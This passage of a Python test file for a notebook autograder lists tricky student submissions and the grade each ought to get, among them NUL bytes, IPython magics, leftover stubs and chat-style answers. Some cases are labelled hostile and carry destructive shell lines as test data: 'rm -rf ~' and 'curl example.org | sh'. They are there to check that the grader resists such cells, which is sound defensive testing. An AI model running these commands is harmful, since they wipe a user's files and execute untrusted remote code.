    ("a conflict of git's", "<<<<<<< HEAD\n" + OK + "=======\n" + OK + ">>>>>>> theirs\n", "error", 0, "SyntaxError."),
    ("a NUL", OK.replace("    shared", "    # \0\n    shared"), "error", 0, "Python cannot read it."),
    ("a lone surrogate", OK.replace("    shared", "    # \ud800\n    shared"), "error", 0, "Python cannot read it."),
    ("lines of Windows and of old Macs", OK.replace("\n", "\r\n", 3).replace("\n", "\r"), "correct", 2, "Lines are lines."),
    ("a form feed", "\x0c\n" + OK, "correct", 2, "White space."),
    ("magics", "%matplotlib inline\n!pip install numpy\n" + OK + "%timeit corated_cosine(1, 2)\nprint?\n", "correct", 2, "They are IPython's; the function is taken."),
    ("%%time", "%%time\n" + OK, "correct", 2, "The function below it is taken."),
    ("calls, plots and asserts below it", OK + "display(corated_cosine([1], [2]))\nplt.show()\nassert corated_cosine(1, 2) == 3\nraise SystemExit\nwhile True: pass\n", "correct", 2, "Only the function is taken."),
    ("the stub's line left", OK.rstrip() + "\n    raise NotImplementedError()\n", "correct", 2, "It is not reached."),
    ("the stub's line left above", OK.replace("    shared", "    raise NotImplementedError()\n    shared"), "error", 0, "It is reached, and named."),
    ("comments only", "# I did not get to this one, sorry\n", "missing", 0, "There is no function."),
    ("the stub as it was", body("# YOUR CODE HERE", "raise NotImplementedError()"), "not attempted", 0, "Nobody has begun."),
    ("no text at all", "", "missing", 0, "There is no function."),
    ("a letter from a chat", "Sure! Here is the function:\n\n```python\n" + OK + "```\n", "error", 0, "SyntaxError."),
)  # fmt: skip
OTHER_CELLS = [
    Hostile(name, "honest, and broken", answer(OK, *cells), "correct", 2, "An error in one cell costs no other exercise a point.")
    for name, cells in (
        ("another cell does not parse", ("def pearson(x, y:\n    return",)),
        ("another cell never ends", ("while True:\n    pass",)),
        ("another cell is Python 2", ("print 'hello'",)),
        ("another cell is a shell", ("%%bash\nrm -rf ~", "!curl example.org | sh")),
        ("another cell is JavaScript", ("%%javascript\nalert(1)",)),
        ("another cell changes np", ("np = None", "del np", "import numpy as np")),
    )
]  # fmt: skip

ANSWERS = [
    *NEVER_ENDS, *TOO_MUCH, *FLOODS, *PROCESSES, *PATCHES, *LIES, *FORGED, *SMUGGLED, *STATE, *LOOKS, *SHAPES, *BROKEN, *OTHER_CELLS,
]  # fmt: skip
